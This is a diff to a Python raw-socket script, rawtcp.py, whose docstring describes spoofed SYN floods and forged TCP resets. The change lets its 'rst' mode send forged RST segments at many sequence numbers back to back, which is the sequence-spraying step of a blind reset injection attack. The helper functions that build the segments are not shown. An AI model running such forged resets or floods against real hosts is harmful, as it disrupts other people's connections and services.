@@ -12,10 +12,10 @@ which has no socket for that SYN, answers the SYN-ACK with a RST) or
 addresses nobody owns (a spoofed SYN flood: the SYN-ACKs go nowhere).
 Prints the number of SYNs sent.
 
-  rawtcp.py rst SRC DST SPORT DPORT SEQ
+  rawtcp.py rst SRC DST SPORT DPORT SEQ...
 
-sends one RST (no ACK) from SRC:SPORT to DST:DPORT at sequence number SEQ:
-a forged reset, as a blind injection sends.  Standard library only.
+sends a RST (no ACK) from SRC:SPORT to DST:DPORT at each sequence number
+SEQ, back to back: forged resets, as a blind injection sends them.  Standard library only.
 """
 import socket
 import struct
@@ -50,11 +50,12 @@ def syn(src, dst, sport, dport, seq):
 
 
 def main(argv):
-    if len(argv) == 7 and argv[1] == "rst":
-        src, dst, sport, dport, seq = argv[2], argv[3], int(argv[4]), int(argv[5]), int(argv[6])
+    if len(argv) >= 7 and argv[1] == "rst":
+        src, dst, sport, dport = argv[2], argv[3], int(argv[4]), int(argv[5])
         sk = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
-        sk.sendto(segment(src, dst, sport, dport, seq & 0xFFFFFFFF, 0x04), (dst, 0))
-        print(1)
+        for seq in argv[6:]:
+            sk.sendto(segment(src, dst, sport, dport, int(seq) & 0xFFFFFFFF, 0x04), (dst, 0))
+        print(len(argv) - 6)
         return 0
     if len(argv) < 8 or argv[1] != "syn":
         sys.stderr.write(__doc__)
